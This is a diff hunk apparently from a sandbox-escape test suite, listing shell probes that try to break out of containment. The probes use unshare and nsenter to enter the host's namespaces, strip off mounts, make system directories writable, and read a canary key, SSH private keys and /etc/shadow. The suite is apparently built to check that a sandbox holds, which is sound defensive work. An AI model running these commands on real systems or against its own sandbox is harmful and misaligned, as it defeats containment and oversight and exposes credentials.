@@ -105,7 +105,7 @@ const rightsAndNamespaces: EscapeTheme = ({ key }) => ({
   r=getattr(c,call)(*args); won(call) if r==0 else print(call,os.strerror(ctypes.get_errno()))`),
   'become root of a user namespace of its own, and take the covers off': `unshare -Urm sh -c 'for m in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount -l "$m" 2>/dev/null; done; cat ${key}; find / -name id_ed25519 -path "*ssh*" -exec cat {} \\; 2>/dev/null; grep -q . /etc/shadow && ${WON}' 2>&1 | grep -a canary`,
   'make the system writable from a user namespace of its own': `unshare -Urm sh -c 'for m in / /usr /etc /opt /run /sys /proc; do mount -o remount,rw,bind "$m" 2>/dev/null; (: > "$m/hermes-was-here") 2>/dev/null && ${WON}; done'`,
-  'mount over what the next command uses': `unshare -Urm sh -c 'mount --make-rshared / && mount -t tmpfs none /usr && touch /usr/x'; ls /usr/bin/env >/dev/null || ${WON}; grep -c shared: /proc/self/mountinfo | grep -qx 0 || ${WON}`,
+  'mount over what the next command uses': `unshare -Urm sh -c 'mount --make-rshared / && mount -t tmpfs none /usr && touch /usr/x'; ls /usr/bin/env >/dev/null || ${WON}; unshare -Urm true && grep -q shared: /proc/self/mountinfo && ${WON}`,
   'enter the namespaces of the host': `nsenter -t 1 -m cat ${key}; nsenter --mount=/proc/1/ns/mnt cat ${key}; nsenter -t ${process.pid} -a cat ${key}; for n in user mnt pid net; do nsenter --$n=/proc/1/ns/$n true 2>/dev/null && [ $n != user ] && echo entered $n; done; true`,
   'ask for the namespaces around': inC(`import fcntl
 for n,call in (("user",0xb701),("user",0xb702),("pid",0xb702)):
